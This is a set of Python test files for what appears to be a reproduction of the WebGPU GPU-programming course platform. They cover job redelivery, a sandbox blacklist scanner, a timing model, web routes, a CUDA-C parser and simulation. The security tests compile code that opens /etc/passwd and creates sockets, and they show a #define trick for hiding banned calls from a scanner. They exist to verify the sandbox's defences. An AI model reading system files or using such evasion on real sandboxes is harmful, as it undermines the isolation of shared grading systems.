        lab = get_lab("mpi-stencil")
        platform.save_code("PUMPS-2015", student, "mpi-stencil",
                           lab.solution)
        clock.advance(30)
        attempt = platform.run_attempt("PUMPS-2015", student, "mpi-stencil")
        assert attempt.status == "failed"
        # the unservable job was cancelled, not left behind in the queue
        assert platform.broker.depth() == 0
        assert platform.dashboard.delivery_summary()["cancelled"] == 1
        # a capable worker added later must not grade the orphan
        platform.add_worker(WorkerConfig(tags=frozenset({"cuda", "mpi"}),
                                         num_gpus=4))
        assert platform.pump() == []
        history = platform.attempt_history("PUMPS-2015", student,
                                           "mpi-stencil")
        assert len(history) == 1

    def test_evicted_driver_stops_polling(self):
        platform, clock, _, student = make_platform(WebGPU2)
        platform.tick_health()
        zombie = platform.drivers[0]
        FaultInjector().silence(zombie.worker)
        clock.advance(120)
        evicted = platform.tick_health()
        assert evicted == [zombie.worker.name]
        # the driver was torn down with the worker — no zombie pull loop
        assert len(platform.drivers) == 1
        assert zombie not in platform.drivers
        polls_before = zombie.stats.polls
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        assert attempt.correct
        assert attempt.worker == platform.drivers[0].worker.name
        assert zombie.stats.polls == polls_before

    def test_crash_mid_job_redelivered_to_second_worker(self):
        platform, clock, _, student = make_platform(WebGPU2)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        doomed = platform.drivers[0].worker
        FaultInjector().crash_mid_job(doomed)
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        # the job was not lost: the lease expired and the broker
        # redelivered it to the surviving worker
        assert attempt.correct
        assert attempt.redeliveries >= 1
        assert attempt.worker == platform.drivers[1].worker.name
        assert attempt.worker != doomed.name
        summary = platform.dashboard.delivery_summary()
        assert summary["redelivered"] >= 1
        assert summary["expired_leases"] >= 1

    def test_poison_job_dead_letters_as_failed_attempt(self):
        clock = ManualClock()
        platform = WebGPU2(clock=clock, num_workers=3)
        course = platform.create_course(
            CourseOffering(code="HPP", year=2015), ["vector-add"])
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        injector = FaultInjector()
        for driver in platform.drivers:   # every delivery kills a node
            injector.crash_mid_job(driver.worker)
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        assert attempt.status == "failed"
        assert not attempt.correct
        # default policy: max_attempts=3, so exactly 2 redeliveries
        assert attempt.redeliveries == 2
        result = platform._last_results[(student.user_id, "vector-add")]
        assert result.extra["dead_lettered"] is True
        assert "dead-lettered after 3 delivery attempt(s)" in result.error
        assert platform.dashboard.delivery_summary()["dead_lettered"] == 1


class TestDegradedFleet:
    def test_v1_no_capable_worker_is_failed_attempt_not_crash(self):
        """An MPI lab on a CUDA-only v1 fleet must produce a failed
        attempt, not an unhandled DispatchError (v2 parity)."""
        clock = ManualClock()
        platform = WebGPU(clock=clock, num_workers=1)
        course = platform.create_course(
            CourseOffering(code="PUMPS", year=2015), ["mpi-stencil"])
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)
        lab = get_lab("mpi-stencil")
        platform.save_code("PUMPS-2015", student, "mpi-stencil",
                           lab.solution)
        clock.advance(30)
        attempt = platform.run_attempt("PUMPS-2015", student, "mpi-stencil")
        assert attempt.status == "failed"
        assert not attempt.correct
        # the attempt is recorded and visible in the history
        history = platform.attempt_history("PUMPS-2015", student,
                                           "mpi-stencil")
        assert len(history) == 1
