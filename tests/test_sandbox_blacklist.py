"""Compile-time blacklist scanning (paper Section III-D)."""

import pytest

from repro.sandbox import BlacklistScanner, BlacklistViolation, ScanMode
from repro.sandbox.blacklist import strip_comments_and_strings


class TestRawMode:
    def test_detects_asm(self):
        scanner = BlacklistScanner()
        matches = scanner.scan('int main() { asm("nop"); }')
        assert [m.entry for m in matches] == ["asm"]

    def test_detects_multiple(self):
        scanner = BlacklistScanner()
        matches = scanner.scan("fork(); system(\"ls\");")
        assert {m.entry for m in matches} == {"fork", "system"}

    def test_positions_are_accurate(self):
        scanner = BlacklistScanner()
        match = scanner.scan("int x;\n  asm();\n")[0]
        assert (match.line, match.column) == (2, 3)

    def test_substrings_do_not_match(self):
        scanner = BlacklistScanner()
        # identifiers merely containing blacklisted words are fine
        assert scanner.scan("int asmx; float my_fork; int systems;") == []

    def test_matches_even_in_comments(self):
        """The paper: 'This method rejects code which contains the black
        listed functions even within comments.'"""
        scanner = BlacklistScanner(mode=ScanMode.RAW)
        assert scanner.scan("// never call asm() here\nint x;") != []

    def test_matches_in_strings_raw(self):
        scanner = BlacklistScanner(mode=ScanMode.RAW)
        assert scanner.scan('char *s = "asm";') != []

    def test_check_raises_with_all_matches(self):
        scanner = BlacklistScanner()
        with pytest.raises(BlacklistViolation) as exc:
            scanner.check("asm(); fork();")
        assert len(exc.value.matches) == 2

    def test_clean_code_passes(self):
        BlacklistScanner().check("__global__ void k(float *a) { a[0] = 1.0f; }")


class TestPreprocessedMode:
    def test_comments_no_longer_trigger(self):
        scanner = BlacklistScanner(mode=ScanMode.PREPROCESSED)
        assert scanner.scan("// about asm() usage\nint x;") == []

    def test_strings_no_longer_trigger(self):
        scanner = BlacklistScanner(mode=ScanMode.PREPROCESSED)
        assert scanner.scan('char *s = "call asm here";') == []

    def test_real_call_still_caught(self):
        scanner = BlacklistScanner(mode=ScanMode.PREPROCESSED)
        assert scanner.scan("/* fine */ asm(\"nop\");") != []

    def test_macro_hiding_caught_with_preprocessor(self):
        """A #define can smuggle a name past a raw scan of post-stripped
        text; plugging the minicuda preprocessor in defeats it."""
        from repro.minicuda import preprocess
        source = "#define DO_IT asm\nint main() { DO_IT(\"nop\"); }\n"
        naive = BlacklistScanner(mode=ScanMode.RAW,
                                 entries=["asm("])  # exact-call pattern
        # raw scan of the *unexpanded* text misses the call site
        assert all(m.line == 1 for m in naive.scan(source))
        expanded = BlacklistScanner(mode=ScanMode.PREPROCESSED,
                                    preprocessor=preprocess)
        assert any(m.entry == "asm" for m in expanded.scan(source))


class TestStripper:
    def test_preserves_newlines(self):
        out = strip_comments_and_strings("a /* x\ny */ b // c\nd")
        assert out.count("\n") == 2

    def test_strings_with_escapes(self):
        out = strip_comments_and_strings(r'char *s = "a\"b"; int x;')
        assert '"' not in out.replace(" ", "")[10:] or "int x;" in out

    def test_custom_entries(self):
        scanner = BlacklistScanner(entries=["mmap"])
        assert scanner.scan("mmap(0, 4096);") != []
        assert scanner.scan("asm();") == []
