"""The analytic timing model and host transfer accounting."""

import pytest

from repro.gpusim import Device, DeviceSpec, GpuRuntime, KernelStats, TimingModel
from repro.gpusim.host import PCIE_BANDWIDTH, TRANSFER_LATENCY_S
from repro.gpusim.timing import (
    ATOMIC_CONTENTION_CYCLES,
    BARRIER_CYCLES,
    LAUNCH_OVERHEAD_S,
    SEGMENT_BYTES,
)

SPEC = DeviceSpec(name="test", compute_capability=(3, 0), num_sms=4,
                  cores_per_sm=64, clock_ghz=1.0, mem_bandwidth_gbs=100.0)


def stats(**kwargs) -> KernelStats:
    base = KernelStats(blocks=1, threads=256, warps=8)
    for key, value in kwargs.items():
        setattr(base, key, value)
    return base


class TestTimingModel:
    def test_launch_overhead_floor(self):
        model = TimingModel(SPEC)
        assert model.estimate(stats()) >= LAUNCH_OVERHEAD_S

    def test_compute_bound_scales_with_instructions(self):
        model = TimingModel(SPEC)
        slow = model.estimate(stats(instructions=10_000_000))
        fast = model.estimate(stats(instructions=1_000_000))
        assert slow > fast
        # 10x the instructions ~ 10x the compute time (minus overhead)
        assert (slow - LAUNCH_OVERHEAD_S) == pytest.approx(
            10 * (fast - LAUNCH_OVERHEAD_S), rel=0.01)

    def test_memory_bound_scales_with_transactions(self):
        model = TimingModel(SPEC)
        light = model.estimate(stats(global_load_transactions=1_000))
        heavy = model.estimate(stats(global_load_transactions=100_000))
        assert heavy > light
        expected = 100_000 * SEGMENT_BYTES / (100.0 * 1e9)
        assert (heavy - LAUNCH_OVERHEAD_S) == pytest.approx(expected,
                                                            rel=0.05)

    def test_max_of_compute_and_memory_not_sum(self):
        model = TimingModel(SPEC)
        both = model.estimate(stats(instructions=1_000_000,
                                    global_load_transactions=100_000))
        mem_only = model.estimate(stats(global_load_transactions=100_000))
        # compute hides under the memory time (overlap, not addition)
        assert both == pytest.approx(mem_only, rel=0.01)

    def test_low_thread_count_hurts(self):
        model = TimingModel(SPEC)
        wide = model.estimate(stats(instructions=1_000_000, threads=4096))
        narrow = model.estimate(stats(instructions=1_000_000, threads=32))
        assert narrow > wide

    def test_atomic_contention_cost(self):
        model = TimingModel(SPEC)
        spread = model.estimate(stats(atomic_ops=1024,
                                      max_atomic_contention=1))
        hot = model.estimate(stats(atomic_ops=1024,
                                   max_atomic_contention=1024))
        assert hot > spread
        extra = (1024 - 1) * ATOMIC_CONTENTION_CYCLES / 1e9 / SPEC.num_sms
        assert hot - spread == pytest.approx(extra, rel=0.05)

    def test_barrier_cost(self):
        model = TimingModel(SPEC)
        none = model.estimate(stats())
        many = model.estimate(stats(barriers=10_000))
        assert many - none == pytest.approx(
            10_000 * BARRIER_CYCLES / (SPEC.num_sms * 1e9), rel=0.01)

    def test_merge_accumulates_and_tracks_contention(self):
        a = stats(atomic_ops=4)
        a.atomic_addresses = {100: 4}
        b = stats(atomic_ops=6)
        b.atomic_addresses = {100: 2, 200: 4}
        a.merge(b)
        assert a.atomic_ops == 10
        assert a.atomic_addresses == {100: 6, 200: 4}
        assert a.max_atomic_contention == 6
        assert a.threads == 512

    def test_load_efficiency_bounds(self):
        s = stats(global_load_transactions=10, bytes_read=10 * SEGMENT_BYTES)
        assert s.load_efficiency == 1.0
        s2 = stats(global_load_transactions=10, bytes_read=128)
        assert s2.load_efficiency == pytest.approx(0.1)
        assert stats().load_efficiency == 1.0  # no loads = no waste


class TestHostTransfers:
    def test_memcpy_advances_device_time(self):
        import numpy as np
        rt = GpuRuntime(Device(SPEC))
        data = np.zeros(1_000_000, dtype=np.float32)
        before = rt.device_time
        buf = rt.malloc_like(data)
        elapsed = rt.device_time - before
        expected = TRANSFER_LATENCY_S + data.nbytes / PCIE_BANDWIDTH
        assert elapsed == pytest.approx(expected, rel=0.01)
        rt.free(buf)

    def test_transfer_time_dwarfs_small_kernels(self):
        """The course's classic lesson: for small N, the PCIe copies
        cost more than the kernel."""
        import numpy as np
        rt = GpuRuntime(Device(SPEC))
        data = np.zeros(4096, dtype=np.float32)
        t0 = rt.record_event()
        buf = rt.malloc_like(data)
        t1 = rt.record_event()

        def kernel(ctx, buf):
            ctx.load(buf.ptr(), ctx.global_x)

        kernel_stats = rt.launch(kernel, (32,), (128,), buf)
        copy_time = t1.elapsed_since(t0)
        assert copy_time > kernel_stats.elapsed_seconds
