"""Web routes for feedback, hints, shared attempts; driver recycling."""

import pytest

from repro.broker import ConfigServer, ContainerPool, MessageBroker, WorkerDriver
from repro.broker.config_server import WorkerRemoteConfig
from repro.broker.containers import CUDA_IMAGE
from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job
from repro.core import WebGPU
from repro.core.course import CourseOffering
from repro.db import Database
from repro.labs import get_lab
from repro.web import Request, WebGpuApp

VECADD = get_lab("vector-add")


@pytest.fixture
def app():
    clock = ManualClock()
    platform = WebGPU(clock=clock, rate_per_minute=600.0)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015,
                       deadlines={"vector-add": 500.0}),
        ["vector-add"])
    student = platform.users.register("s@x.com", "S", "pw")
    course.enroll(student.user_id)
    app = WebGpuApp(platform, "HPP-2015")
    token = app.handle(Request("POST", "/login", form={
        "email": "s@x.com", "password": "pw"})).body
    return app, clock, token, student


class TestFeedbackRoutes:
    def test_feedback_route(self, app):
        app, clock, token, _ = app
        wrong = VECADD.solution.replace("in1[i] + in2[i]", "in1[i]")
        app.handle(Request("POST", "/lab/vector-add/code",
                           form={"source": wrong}, session_token=token))
        clock.advance(30)
        app.handle(Request("POST", "/lab/vector-add/run",
                           form={"dataset": "3"}, session_token=token))
        response = app.handle(Request("GET", "/lab/vector-add/feedback",
                                      session_token=token))
        assert response.ok
        assert "[correctness]" in response.body

    def test_hint_route_stages_then_exhausts(self, app):
        app, _, token, _ = app
        seen = set()
        while True:
            response = app.handle(Request("POST", "/lab/vector-add/hint",
                                          session_token=token))
            if response.status == 204:
                break
            seen.add(response.body)
        assert len(seen) == 3  # the three staged vector-add hints

    def test_routes_require_auth(self, app):
        app, _, _, _ = app
        assert app.handle(
            Request("GET", "/lab/vector-add/feedback")).status == 401
        assert app.handle(
            Request("POST", "/lab/vector-add/hint")).status == 401


class TestSharedAttempts:
    def test_shared_attempt_public_after_deadline(self, app):
        app, clock, token, student = app
        platform = app.platform
        app.handle(Request("POST", "/lab/vector-add/code",
                           form={"source": VECADD.solution},
                           session_token=token))
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add")
        # before the deadline: sharing is refused
        with pytest.raises(PermissionError):
            platform.attempts.share_publicly(attempt.attempt_id,
                                             deadline=500.0,
                                             now=clock.now())
        # unshared attempts are not publicly readable
        response = app.handle(Request(
            "GET", f"/shared/attempt/{attempt.attempt_id}"))
        assert response.status == 403
        # after the deadline, share and fetch with no session at all
        clock.advance(1000)
        url = platform.attempts.share_publicly(attempt.attempt_id,
                                               deadline=500.0,
                                               now=clock.now())
        response = app.handle(Request("GET", url))
        assert response.ok
        assert "vecAdd" in response.body  # the code is shown
        assert "correct" in response.body

    def test_unknown_attempt_404(self, app):
        app, _, _, _ = app
        assert app.handle(
            Request("GET", "/shared/attempt/99999")).status == 404


class TestDriverRecycling:
    def test_recycle_after_configured_jobs(self):
        clock = ManualClock()
        broker = MessageBroker()
        cfg = ConfigServer(WorkerRemoteConfig(max_jobs_before_recycle=3))
        driver = WorkerDriver(
            GpuWorker(WorkerConfig(), clock=clock), broker,
            ContainerPool([CUDA_IMAGE]), cfg, Database("m"), clock=clock)
        for _ in range(7):
            broker.publish(Job(lab=VECADD, source=VECADD.solution),
                           clock.now())
        driver.drain()
        assert driver.stats.jobs == 7
        assert driver.stats.recycles == 2  # after jobs 3 and 6
        # the pool is warm again after recycling
        assert driver.containers.stats()["warm_available"] >= 1
        # recycle events are reported to the metrics database
        rows = driver.metrics_db.find("worker_metrics", event="recycle")
        assert len(rows) == 2
