"""Host API builtins: CUDA runtime, libwb, stdlib, security hooks."""

import numpy as np
import pytest

from repro.gpusim import Device, GpuRuntime
from repro.minicuda import ENGINES, HostEnv, compile_source
from repro.minicuda.hostapi import HostApiError
from repro.minicuda.values import MemoryFault


def run(source, datasets=None, **env_kwargs):
    program = compile_source(source)
    env = HostEnv(datasets=datasets or {}, **env_kwargs)
    rt = GpuRuntime(Device())
    result = program.run_main(runtime=rt, host_env=env)
    return result, env, rt


class TestCudaRuntime:
    def test_malloc_uses_declared_pointer_type(self):
        source = """
int main() {
  int *d;
  cudaMalloc((void **)&d, 40);
  return 0;
}
"""
        result, _, rt = run(source)
        assert rt.device.bytes_allocated == 40  # 10 x int32

    def test_free_releases(self):
        source = """
int main() {
  float *d;
  cudaMalloc((void **)&d, 400);
  cudaFree(d);
  return 0;
}
"""
        _, _, rt = run(source)
        assert rt.device.bytes_allocated == 0

    def test_memcpy_roundtrip_through_device(self):
        source = """
int main() {
  int len;
  float *h = (float *)wbImport(wbArg_getInputFile(0, 0), &len);
  float *out = (float *)malloc(len * sizeof(float));
  float *d;
  cudaMalloc((void **)&d, len * sizeof(float));
  cudaMemcpy(d, h, len * sizeof(float), cudaMemcpyHostToDevice);
  cudaMemcpy(out, d, len * sizeof(float), cudaMemcpyDeviceToHost);
  wbSolution(0, out, len);
  return 0;
}
"""
        data = np.arange(5, dtype=np.float32)
        _, env, _ = run(source, datasets={"input0": data})
        assert np.array_equal(env.solution.data, data)

    def test_memcpy_wrong_direction_faults(self):
        source = """
int main() {
  float *h = (float *)malloc(16);
  float *d;
  cudaMalloc((void **)&d, 16);
  cudaMemcpy(h, d, 16, cudaMemcpyHostToDevice);
  return 0;
}
"""
        with pytest.raises(MemoryFault):
            run(source)

    def test_memset(self):
        source = """
int main() {
  int *d;
  cudaMalloc((void **)&d, 4 * sizeof(int));
  cudaMemset(d, 0, 4 * sizeof(int));
  return 0;
}
"""
        run(source)

    def test_device_properties_struct(self):
        source = """
int main() {
  cudaDeviceProp p;
  cudaGetDeviceProperties(&p, 0);
  wbLog(TRACE, "sm count ", p.multiProcessorCount);
  return p.warpSize;
}
"""
        result, env, _ = run(source)
        assert result.exit_code == 32
        assert "sm count" in env.log[0]


class TestWbApi:
    def test_wbimport_2d_sets_both_extents(self):
        source = """
int main() {
  int rows, cols;
  float *m = (float *)wbImport(wbArg_getInputFile(0, 0), &rows, &cols);
  return rows * 100 + cols;
}
"""
        data = np.zeros((3, 7), dtype=np.float32)
        result, _, _ = run(source, datasets={"input0": data})
        assert result.exit_code == 307

    def test_wbimport_missing_dataset(self):
        source = """
int main() {
  int n;
  float *v = (float *)wbImport(wbArg_getInputFile(0, 3), &n);
  return 0;
}
"""
        with pytest.raises(HostApiError, match="input3"):
            run(source, datasets={"input0": np.zeros(1, dtype=np.float32)})

    def test_wbtime_pairs(self):
        source = """
int main() {
  float *d;
  wbTime_start(GPU, "alloc");
  cudaMalloc((void **)&d, 1024);
  wbTime_stop(GPU, "alloc");
  return 0;
}
"""
        _, env, _ = run(source)
        timer = env.timers[0]
        assert timer.tag == "GPU" and timer.stop is not None
        assert timer.elapsed >= 0

    def test_wbsolution_2d_shape(self):
        source = """
int main() {
  float *out = (float *)malloc(6 * sizeof(float));
  wbSolution(0, out, 2, 3);
  return 0;
}
"""
        _, env, _ = run(source)
        assert env.solution.shape == (2, 3)
        assert env.solution.data.size == 6

    def test_printf_formats(self):
        source = r"""
int main() {
  printf("n=%d f=%.1f", 3, 2.5);
  return 0;
}
"""
        _, env, _ = run(source)
        assert env.stdout == ["n=3 f=2.5"]

    def test_rand_is_deterministic(self):
        source = """
int main() {
  srand(42);
  return rand() % 100;
}
"""
        a, _, _ = run(source)
        b, _, _ = run(source)
        assert a.exit_code == b.exit_code

    def test_exit_builtin(self):
        result, _, _ = run("int main() { exit(3); return 0; }")
        assert result.exit_code == 3

    def test_assert_failure_faults(self):
        with pytest.raises(MemoryFault, match="assertion"):
            run("int main() { assert(1 == 2); return 0; }")


class TestSecurityHooks:
    def test_stdout_routes_through_syscall_hook(self):
        calls = []
        run('int main() { printf("hi"); return 0; }',
            syscall_hook=calls.append)
        assert "write" in calls

    def test_fopen_reports_open_syscall(self):
        calls = []
        run('int main() { fopen("/etc/passwd", "r"); return 0; }',
            syscall_hook=calls.append)
        assert "open" in calls

    def test_socket_reports_socket_syscall(self):
        calls = []
        run("int main() { socket(2, 1, 0); return 0; }",
            syscall_hook=calls.append)
        assert "socket" in calls

    def test_malloc_reports_mmap(self):
        calls = []
        run("int main() { float *p = (float *)malloc(64); return 0; }",
            syscall_hook=calls.append)
        assert "mmap" in calls


class TestKernelLaunchEngines:
    """The full host path (cudaMalloc/Memcpy + <<<>>>) under every
    kernel execution engine must produce the same solution and the
    same profiled launch stats."""

    SOURCE = """
__global__ void vecadd(float *a, float *b, float *c, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}
int main() {
  int n;
  float *hA = (float *)wbImport(wbArg_getInputFile(0, 0), &n);
  float *hB = (float *)wbImport(wbArg_getInputFile(0, 1), &n);
  float *hC = (float *)malloc(n * sizeof(float));
  float *dA; float *dB; float *dC;
  cudaMalloc((void **)&dA, n * sizeof(float));
  cudaMalloc((void **)&dB, n * sizeof(float));
  cudaMalloc((void **)&dC, n * sizeof(float));
  cudaMemcpy(dA, hA, n * sizeof(float), cudaMemcpyHostToDevice);
  cudaMemcpy(dB, hB, n * sizeof(float), cudaMemcpyHostToDevice);
  vecadd<<<(n + 31) / 32, 32>>>(dA, dB, dC, n);
  cudaMemcpy(hC, dC, n * sizeof(float), cudaMemcpyDeviceToHost);
  wbSolution(0, hC, n);
  return 0;
}
"""

    def _launch(self, engine):
        a = np.arange(100, dtype=np.float32)
        b = np.arange(100, dtype=np.float32)[::-1].copy()
        program = compile_source(self.SOURCE)
        env = HostEnv(datasets={"input0": a, "input1": b})
        result = program.run_main(runtime=GpuRuntime(Device()),
                                  host_env=env, engine=engine)
        return result, env, a + b

    @pytest.mark.parametrize("engine", ENGINES)
    def test_vecadd_through_host_api(self, engine):
        result, env, expected = self._launch(engine)
        assert result.exit_code == 0
        assert np.allclose(env.solution.data, expected)
        assert len(env.kernel_launches) == 1

    def test_engines_report_identical_stats(self):
        stats = {}
        for engine in ENGINES:
            _, env, _ = self._launch(engine)
            ((_, s),) = env.kernel_launches
            stats[engine] = s
        for fld in ("instructions", "global_load_requests",
                    "global_store_requests", "global_load_transactions",
                    "global_store_transactions", "bytes_read",
                    "bytes_written", "shared_accesses", "bank_conflicts",
                    "barriers", "atomic_ops"):
            for engine in ENGINES:
                assert getattr(stats[engine], fld) == \
                    getattr(stats["ast"], fld), (engine, fld)
