"""Tokenizer and parser for the CUDA-C subset."""

import pytest

from repro.minicuda import CompileError, parse, tokenize
from repro.minicuda import ast_nodes as ast
from repro.minicuda.lexer import TokenKind


def kinds(source):
    return [(t.kind, t.text) for t in tokenize(source)
            if t.kind is not TokenKind.EOF]


class TestLexer:
    def test_numbers(self):
        toks = tokenize("42 0x1F 3.5 1e-3 2.0f 7f")
        values = [t.value for t in toks[:-1]]
        assert values == [42, 31, 3.5, 1e-3, 2.0, 7.0]

    def test_float_vs_member_access(self):
        toks = kinds("a.x")
        assert toks == [(TokenKind.IDENT, "a"), (TokenKind.PUNCT, "."),
                        (TokenKind.IDENT, "x")]

    def test_string_escapes(self):
        tok = tokenize(r'"a\nb"')[0]
        assert tok.value == "a\nb"

    def test_char_literal(self):
        assert tokenize("'A'")[0].value == 65
        assert tokenize(r"'\n'")[0].value == 10

    def test_launch_chevrons(self):
        texts = [t.text for t in tokenize("k<<<1, 2>>>()")
                 if t.kind is TokenKind.PUNCT]
        assert "<<<" in texts and ">>>" in texts

    def test_shift_operators_still_work(self):
        texts = [t.text for t in tokenize("a << b >> c <<= d")]
        assert "<<" in texts and ">>" in texts and "<<=" in texts

    def test_keywords_recognised(self):
        toks = {t.text: t.kind for t in tokenize("__global__ void if dim3 x")}
        assert toks["__global__"] is TokenKind.KEYWORD
        assert toks["x"] is TokenKind.IDENT

    def test_positions(self):
        tok = tokenize("int\n  foo;")[1]
        assert (tok.pos.line, tok.pos.column) == (2, 3)

    def test_unterminated_string(self):
        with pytest.raises(CompileError):
            tokenize('"oops')

    def test_unexpected_character(self):
        with pytest.raises(CompileError):
            tokenize("int @x;")


class TestParserTopLevel:
    def test_kernel_qualifiers(self):
        unit = parse("__global__ void k(float *a, int n) {}")
        fn = unit.function("k")
        assert fn.is_kernel
        assert fn.params[0].type.is_pointer
        assert fn.params[1].type.base == "int"

    def test_device_function(self):
        unit = parse("__device__ float f(float x) { return x; }")
        assert unit.function("f").is_device

    def test_opencl_kernel(self):
        unit = parse("__kernel void k(__global float *a) {}")
        fn = unit.function("k")
        assert fn.is_kernel and fn.params[0].opencl_global

    def test_constant_global_array(self):
        unit = parse("__constant__ float M[9];")
        decl = unit.globals[0].decl
        assert decl.constant
        assert decl.declarators[0].type.array_dims == (9,)

    def test_global_initializer_list(self):
        unit = parse("int T[3] = {1, 2, 3};")
        init = unit.globals[0].decl.declarators[0].init
        assert isinstance(init, ast.Call) and init.name == "__init_list__"

    def test_prototype_then_definition(self):
        unit = parse("int f(int); int f(int x) { return x; }")
        assert unit.function("f") is not None


class TestParserStatements:
    def wrap(self, body):
        return parse("void f() {" + body + "}").function("f").body

    def test_for_loop_with_decl(self):
        block = self.wrap("for (int i = 0; i < 10; i++) { }")
        loop = block.statements[0]
        assert isinstance(loop, ast.For)
        assert isinstance(loop.init, ast.DeclStmt)

    def test_while_do_while(self):
        block = self.wrap("while (x) {} do { } while (y);")
        assert isinstance(block.statements[0], ast.While)
        assert isinstance(block.statements[1], ast.DoWhile)

    def test_if_else_chain(self):
        block = self.wrap("if (a) x = 1; else if (b) x = 2; else x = 3;")
        node = block.statements[0]
        assert isinstance(node.otherwise, ast.If)

    def test_shared_2d_declaration(self):
        block = self.wrap("__shared__ float tile[8][8];")
        decl = block.statements[0]
        assert decl.shared
        assert decl.declarators[0].type.array_dims == (8, 8)

    def test_array_dim_constant_folded(self):
        block = self.wrap("float a[2 * 8 + 1];")
        assert block.statements[0].declarators[0].type.array_dims == (17,)

    def test_non_constant_dim_rejected(self):
        with pytest.raises(CompileError, match="constant"):
            self.wrap("float a[n];")

    def test_multi_declarator(self):
        block = self.wrap("float *a, *b, c;")
        decls = block.statements[0].declarators
        assert [d.type.pointers for d in decls] == [1, 1, 0]

    def test_dim3_ctor_declaration(self):
        block = self.wrap("dim3 grid(4, 4);")
        decl = block.statements[0].declarators[0]
        assert len(decl.ctor_args) == 2


class TestParserExpressions:
    def expr(self, text):
        unit = parse(f"void f() {{ x = {text}; }}")
        return unit.function("f").body.statements[0].expr.value

    def test_precedence_mul_over_add(self):
        node = self.expr("a + b * c")
        assert node.op == "+" and node.right.op == "*"

    def test_ternary(self):
        node = self.expr("a < b ? a : b")
        assert isinstance(node, ast.Conditional)

    def test_cast_of_malloc(self):
        node = self.expr("(float *)malloc(4)")
        assert isinstance(node, ast.Cast) and node.type.pointers == 1

    def test_parenthesized_not_mistaken_for_cast(self):
        node = self.expr("(a) + b")
        assert isinstance(node, ast.Binary)

    def test_sizeof(self):
        node = self.expr("sizeof(float)")
        assert isinstance(node, ast.SizeOf)

    def test_address_of_index(self):
        node = self.expr("f(&arr[i])")
        arg = node.args[0]
        assert isinstance(arg, ast.Unary) and arg.op == "&"
        assert isinstance(arg.operand, ast.Index)

    def test_kernel_launch_expression(self):
        unit = parse("""
__global__ void k(int n) {}
void host() { k<<<grid, block>>>(5); }
""")
        stmt = unit.function("host").body.statements[0]
        launch = stmt.expr
        assert isinstance(launch, ast.KernelLaunch)
        assert launch.name == "k" and len(launch.args) == 1

    def test_launch_with_shared_arg(self):
        unit = parse("""
__global__ void k() {}
void host() { k<<<1, 2, 1024>>>(); }
""")
        launch = unit.function("host").body.statements[0].expr
        assert launch.shared is not None

    def test_member_chain(self):
        node = self.expr("blockIdx.x")
        assert isinstance(node, ast.Member) and node.field_name == "x"

    def test_postfix_increment(self):
        node = self.expr("i++")
        assert isinstance(node, ast.IncDec) and not node.prefix

    def test_compound_assignment(self):
        unit = parse("void f() { x += 2; }")
        node = unit.function("f").body.statements[0].expr
        assert isinstance(node, ast.Assign) and node.op == "+="

    def test_missing_semicolon_reports_position(self):
        with pytest.raises(CompileError) as exc:
            parse("void f() { int x = 1 int y; }")
        assert "1:" in str(exc.value)


class TestIntegerSuffixes:
    """Regression: hex literals used to leave their u/l suffix behind
    as a stray identifier token."""

    def test_hex_with_unsigned_suffix(self):
        toks = tokenize("0xFFu")
        assert len(toks) == 2  # INT, EOF
        assert toks[0].value == 255

    def test_hex_with_ul_suffix(self):
        toks = tokenize("0x10UL")
        assert len(toks) == 2
        assert toks[0].value == 16

    def test_decimal_suffixes_still_work(self):
        assert tokenize("42u")[0].value == 42
        assert tokenize("7ULL")[0].value == 7

    def test_suffixed_hex_in_expression(self):
        unit = parse("unsigned int mask = 0x7Fu & 0xFFUL;")
        decl = unit.globals[0]
        assert decl is not None
