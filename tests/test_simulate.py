"""Simulation: DES core, population model, funnel, fleet queueing."""

import numpy as np
import pytest

from repro.simulate import (
    HPP_2013,
    HPP_2014,
    HPP_2015,
    HourlySeries,
    PopulationParams,
    SimClock,
    Simulator,
    StudentPopulation,
    jobs_from_activity,
    simulate_fleet,
    simulate_funnel,
)
from repro.simulate.metrics import spike_day_of_week, weekly_profile
from repro.simulate.scenarios import COURSERA_OFFERINGS
from repro.simulate.workload import sample_service_times


class TestDes:
    def test_events_fire_in_time_order(self):
        sim = Simulator()
        fired = []
        sim.schedule(5.0, lambda: fired.append("b"))
        sim.schedule(1.0, lambda: fired.append("a"))
        sim.schedule(9.0, lambda: fired.append("c"))
        sim.run()
        assert fired == ["a", "b", "c"]
        assert sim.now() == 9.0

    def test_same_time_insertion_order(self):
        sim = Simulator()
        fired = []
        for tag in "xyz":
            sim.schedule(1.0, lambda t=tag: fired.append(t))
        sim.run()
        assert fired == ["x", "y", "z"]

    def test_run_until_leaves_future_events(self):
        sim = Simulator()
        fired = []
        sim.schedule(1.0, lambda: fired.append(1))
        sim.schedule(10.0, lambda: fired.append(10))
        sim.run_until(5.0)
        assert fired == [1]
        assert sim.now() == 5.0

    def test_cancel(self):
        sim = Simulator()
        fired = []
        event = sim.schedule(1.0, lambda: fired.append(1))
        event.cancel()
        sim.run()
        assert fired == []

    def test_events_can_schedule_events(self):
        sim = Simulator()
        fired = []

        def chain():
            fired.append(sim.now())
            if len(fired) < 3:
                sim.schedule(2.0, chain)

        sim.schedule(1.0, chain)
        sim.run()
        assert fired == [1.0, 3.0, 5.0]

    def test_negative_delay_rejected(self):
        with pytest.raises(ValueError):
            Simulator().schedule(-1.0, lambda: None)

    def test_sim_clock_adapter(self):
        sim = Simulator(start=100.0)
        clock = SimClock(sim)
        assert clock.now() == 100.0


class TestHourlySeries:
    def test_peak_and_trough(self):
        series = HourlySeries(hours=48)
        series.add(3, 10)
        series.add(30, 2)
        assert series.peak == 10 and series.peak_hour == 3
        assert series.trough_over(10) == 0

    def test_weekly_profile_requires_full_week(self):
        with pytest.raises(ValueError):
            weekly_profile(HourlySeries(hours=100))

    def test_daily_max(self):
